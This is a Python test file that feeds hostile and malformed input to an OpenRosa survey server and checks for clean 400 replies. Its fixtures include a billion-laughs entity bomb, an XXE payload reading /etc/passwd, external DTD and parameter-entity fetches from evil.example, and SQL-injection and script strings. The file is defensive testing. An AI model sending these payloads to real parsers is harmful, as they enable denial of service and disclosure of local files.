"""Hostile and broken input at the OpenRosa server: DTDs, entities, external references,
broken bytes and nonsense in every part of every address — a 4xx in OpenRosa XML, never a
5xx, and nothing stored."""

from __future__ import annotations

import io

import pytest
from werkzeug.routing import Rule

from tests.openrosa.openrosa_support import message_of, response_count

BILLION_LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE data [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
]>
<data id="sipas-2640" version="2"><comment>&lol5;</comment>
<meta><instanceID>uuid:lol</instanceID></meta></data>"""
EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<data id="sipas-2640" version="2"><comment>&xxe;</comment>
<meta><instanceID>uuid:xxe</instanceID></meta></data>"""
PARAMETER_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE data [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>
<data id="sipas-2640" version="2"><meta><instanceID>uuid:pe</instanceID></meta></data>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE data SYSTEM "http://evil.example/data.dtd">
<data id="sipas-2640" version="2"><meta><instanceID>uuid:dtd</instanceID></meta></data>"""
PLAIN_DTD = """<!DOCTYPE data><data id="sipas-2640" version="2"><meta><instanceID>uuid:d
</instanceID></meta></data>"""


@pytest.mark.parametrize("document", [BILLION_LAUGHS, EXTERNAL_ENTITY, PARAMETER_ENTITY,
                                      EXTERNAL_DTD, PLAIN_DTD],
                         ids=["billion-laughs", "xxe", "parameter-entity", "external-dtd",
                              "dtd"])
def test_dtds_and_entities_are_refused_unread(odk, document):
    reply = odk.submit(document)
    assert reply.status_code == 400
    assert "DTD" in message_of(reply)
    assert "root:" not in reply.get_data(as_text=True)
    assert response_count() == 0


@pytest.mark.parametrize("body", [
    b"", b"   \n", b"\xff\xfe\x00<", b"<data", b"<data id='sipas-2640'>&undefined;</data>",
    b"<?xml version='1.0' encoding='bogus'?><data/>", b"<a><b></a>", b"plain text",
    b"\x00" * 50, "<data id=\"sipas-2640\" version=\"2\">\u0000</data>".encode(),
    b"<data id='sipas-2640' version='2'><meta><instanceID>uuid:x</instanceID></meta></data>"
    b"<trailing/>"])
def test_broken_documents_are_a_clear_400(odk, body):
    reply = odk.submit(body)
    assert reply.status_code == 400
    assert message_of(reply)
    assert response_count() == 0


NONSENSE = ["\u0663", "%00", "<script>", "..", "a" * 300, "' OR 1=1 --", "%ff", "ứ"]


def openrosa_rules(app) -> list[Rule]:
    return [rule for rule in app.url_map.iter_rules() if rule.endpoint.startswith("openrosa.")]


def test_every_address_with_nonsense_parts_answers_openrosa_xml(app, odk):
    rules = openrosa_rules(app)
    assert {rule.endpoint for rule in rules} == {
        "openrosa.form_list", "openrosa.form_xml", "openrosa.manifest",
        "openrosa.submission_check", "openrosa.submission"}
    real = {"campaign_code": "dot-1", "unit_code": "xa-dong", "form_id": "sipas-2640"}
    for rule in rules:
        for argument in rule.arguments:
            for value in NONSENSE:
                path = rule.build({**real, argument: value}, append_unknown=False)[1]
                for method in sorted((rule.methods or set()) - {"OPTIONS", "HEAD"}):
                    reply = odk.client.open(path, method=method, headers={
                        "X-OpenRosa-Version": "1.0", **odk.auth})
                    assert reply.status_code < 500, (method, path, reply.status_code)
                    if reply.status_code >= 400:
                        assert b"<OpenRosaResponse" in reply.data, (method, path)
    assert response_count() == 0


def test_addresses_no_rule_matches_answer_openrosa_xml(odk):
    for method, path in (("GET", "/openrosa/dot-1/../xa-dong/formList"), ("GET", "/openrosa/"),
                         ("DELETE", odk.base + "/submission"), ("POST", odk.base + "/formList"),
                         ("PUT", odk.base + "/forms/sipas-2640.xml")):
        reply = odk.client.open(path, method=method, headers=odk.auth)
        assert reply.status_code in (404, 405), (method, path)
        assert b"<OpenRosaResponse" in reply.data, (method, path)
        assert reply.headers["X-OpenRosa-Version"] == "1.0"
        if reply.status_code == 405:
            assert "Allow" in reply.headers


def test_nonsense_queries_answer_openrosa_xml(odk):
    for value in [*NONSENSE, "-1", "99999999999999999999", ""]:
        for name in ("formID", "since", "deviceID", "verbose"):
            reply = odk.get("/formList", query_string={name: value})
            assert reply.status_code in (200, 400), (name, value)
            assert b"<xforms" in reply.data or b"<OpenRosaResponse" in reply.data


def test_nonsense_headers_answer_openrosa_xml(odk, instance):
    for version in ("", "2.0", "1.0, 1.0", "\u0663"):
        reply = odk.client.post(odk.base + "/submission",
                                headers={"X-OpenRosa-Version": version, **odk.auth},
                                data={"xml_submission_file": (io.BytesIO(instance().encode()),
                                                              "x.xml")})
        assert reply.status_code == 400, version
    reply = odk.client.post(odk.base + "/submission", headers={
        "X-OpenRosa-Version": "1.0", **odk.auth, "Content-Type": "multipart/form-data; x"},
        data=b"--x\r\n")
    assert reply.status_code == 400
    assert response_count() == 0


def test_an_unexpected_failure_is_a_500_in_openrosa_xml(app, odk, instance, monkeypatch,
                                                        caplog):
    from survey_app.domain.submissions import openrosa

    def broken(*args, **kwargs):
        raise RuntimeError("disk full")

    monkeypatch.setattr(openrosa, "store", broken)
    app.config["PROPAGATE_EXCEPTIONS"] = False  # as in production, not as under TESTING
    reply = odk.submit(instance())
    assert reply.status_code == 500
    assert "chưa được ghi nhận" in message_of(reply)
    assert reply.headers["X-OpenRosa-Version"] == "1.0"
    assert "disk full" in caplog.text and "disk full" not in reply.get_data(as_text=True)
